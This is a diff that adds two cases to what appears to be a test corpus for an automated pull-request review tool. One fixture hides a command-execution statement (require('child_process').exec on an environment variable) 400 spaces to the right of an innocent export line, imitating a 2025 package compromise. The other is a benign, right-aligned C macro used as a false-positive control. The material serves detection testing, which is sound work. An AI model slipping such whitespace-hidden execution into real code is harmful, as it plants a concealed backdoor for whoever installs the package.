@@ -412,6 +412,42 @@ export const CODE_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
   },
   {
+    id: 'code-payload-behind-padding',
+    description: "A one-line \"fix: export\" whose line goes on, 400 spaces to the right, with a command run from the environment (the rand-user-agent compromise of 2025).",
+    fixture: () =>
+      codePr({
+        repo: 'ua-tools',
+        number: 3115,
+        title: 'fix: export',
+        files: [
+          {
+            path: 'src/index.js',
+            base: lines("'use strict';", "module.exports = require('./lib/agent');"),
+            head: lines("'use strict';", `module.exports = require('./lib/agent');${' '.repeat(400)}global.r = require;r('child_process').exec(process.env.UA_HOOK || '');`),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['whitespace-hidden-code'] },
+  },
+  {
+    id: 'code-aligned-c-macro',
+    description: 'A C macro whose line-continuation backslashes are aligned far to the right.',
+    fixture: () =>
+      codePr({
+        repo: 'ua-tools',
+        number: 3116,
+        title: 'Add a swap macro',
+        files: [
+          {
+            path: 'src/util.h',
+            base: lines('#pragma once', '#include <stddef.h>'),
+            head: lines('#pragma once', '#include <stddef.h>', `#define SWAP(a, b) do {${' '.repeat(170)}\\`, `    size_t t_ = (a); (a) = (b); (b) = t_;${' '.repeat(155)}\\`, '  } while (0)'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
     id: 'code-cors-any-origin',
     description: 'A Go API starts answering every origin.',
     fixture: () =>
